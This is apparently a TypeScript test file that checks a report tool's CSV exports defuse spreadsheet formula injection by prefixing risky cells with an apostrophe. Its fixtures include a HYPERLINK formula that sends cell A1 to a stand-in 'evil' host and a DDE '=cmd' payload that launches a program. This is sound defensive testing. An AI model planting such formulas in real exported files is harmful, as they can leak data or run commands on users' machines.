import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Result } from '../../src/model/indicator.js';
import { renderResultsCsv } from '../../src/render/results-csv.js';
import { wideCsv } from '../../src/render/wide.js';
import { cli, tmpDir } from '../helpers.js';

// Synthetic results whose text cells hold spreadsheet formulas (issue 9 item 23).
const FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")';
function result(year: number, value: number | null): Result {
  return { indicator: 'rd-intensity', geo: 'CJK', geo_kind: 'group', partner: null, breakdown: FORMULA, year, value, unit: 'percent', status: value === null ? 'missing' : 'ok', reason: value === null ? '@SUM(A1:A9)' : null, years_used: {}, provenance: [], flags: {} };
}
const cells = (csv: string) => (Papa.parse<string[]>(csv.trim()).data as string[][]).flat();
const formula = (c: string) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d/.test(c);

describe('CSV outputs never carry a live formula; numbers stay numbers (issue 9 item 23)', () => {
  it('compute --format csv', () => {
    const csv = renderResultsCsv([result(2017, -1.5), result(2018, null)]);
    expect(cells(csv).filter(formula)).toEqual([]);
    expect(cells(csv)).toContain(`'${FORMULA}`);
    expect(cells(csv)).toContain("'@SUM(A1:A9)");
    expect(cells(csv)).toContain('-1.5');
  });

  it('the wide tables of a report', () => {
    const csv = wideCsv([result(2017, -1.5), result(2018, 2)], { CJK: '+China–Japan–Korea' });
    expect(cells(csv).filter(formula)).toEqual([]);
    expect(cells(csv)).toContain("'+China–Japan–Korea");
    expect(cells(csv)).toContain('-1.5');
  });

  it("a report's check.csv (published-figure text from the definition)", async () => {
    const dir = tmpDir();
    const def = join(dir, 'def');
    mkdirSync(def);
    const header = 'id,paper_table,indicator,breakdown,options,geo,partner,year,value,unit,precision,latest,edition,tolerance,tolerance_reason,needs,source_named,note';
    writeFileSync(join(def, 'published.csv'), `${header}\n-rd_kor,=cmd|' /C calc'!A0,rd-intensity,,,KOR,,2017,4.55,percent,2,,,,,@needs,x,\n`);
    writeFileSync(join(def, 'report.json'), JSON.stringify({ title: 't', published: 'published.csv', inputs: [{ id: 'sample', sample: true }], sections: [] }));
    const r = await cli('report', def, '--out', join(dir, 'out'));
    expect(r.code).toBe(0);
    const csv = readFileSync(join(dir, 'out', 'check.csv'), 'utf8');
    expect(cells(csv).filter(formula)).toEqual([]);
    expect(cells(csv)).toContain("'-rd_kor");
    expect(cells(csv)).toContain("'=cmd|' /C calc'!A0");
  });
});
